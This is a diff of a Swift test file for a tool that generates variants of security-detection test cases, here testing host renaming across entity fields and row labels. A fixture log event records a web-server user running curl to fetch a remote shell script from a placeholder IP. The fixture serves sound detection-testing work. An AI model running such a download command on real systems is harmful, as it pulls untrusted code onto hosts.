@@ -283,12 +283,23 @@ import Testing
             },
         ])
         let rename = try #require(config.transforms.last)
+        // A renamed host is renamed wherever the case repeats it: entity, shorthand list, row_labels.
+        var labeled = Self.lsass
+        labeled.hosts = ["WS-0142"]
+        labeled.rowLabels = [RowLabel(match: [.init(column: "host.name", value: "WS-0142"), .init(column: "user.name", value: "jdoe")], label: .tp)]
+        #expect(CaseVariants.make(labeled, transform: .user(rename), targets: Self.production) == [
+            expected(labeled, "rename-host", 1) {
+                $0.entity = Entity(type: .host, name: "build-agent-07")
+                $0.hosts = ["build-agent-07"]
+                $0.rowLabels = [RowLabel(match: [.init(column: "host.name", value: "build-agent-07"), .init(column: "user.name", value: "jdoe")], label: .tp)]
+            },
+        ])
         #expect(CaseVariants.make(Self.curl, transform: .user(rename), targets: Self.production).first?.documents?.first?.source
             == #"{"@timestamp":"2026-01-01T00:00:00Z","host":{"name":"build-agent-07"},"user.name":"www-data","process":{"name":"curl","command_line":"curl -s http://198.51.100.7/x.sh","args":["curl","-s","http://198.51.100.7/x.sh"]}}"#)
     }
 
     @Test(arguments: [
-        ("variants: [nope]", "t.yaml: variants[0]: unknown transform \"nope\""),
+        ("variants: [nope]", "t.yaml:1: variants[0]: unknown transform \"nope\""),
         ("transforms:\n  - {name: x, fields: [kibana.alert.rule.name], action: append, text: a}", "t.yaml:2:"),
         ("transforms:\n  - {name: reorder, fields: [host.name], action: append, text: a}", "\"reorder\" is a built-in transform"),
         ("transforms:\n  - {name: x, fields: [host.name], action: shout, text: a}", "transforms[0].action: must be one of append, prepend, replace, rename"),
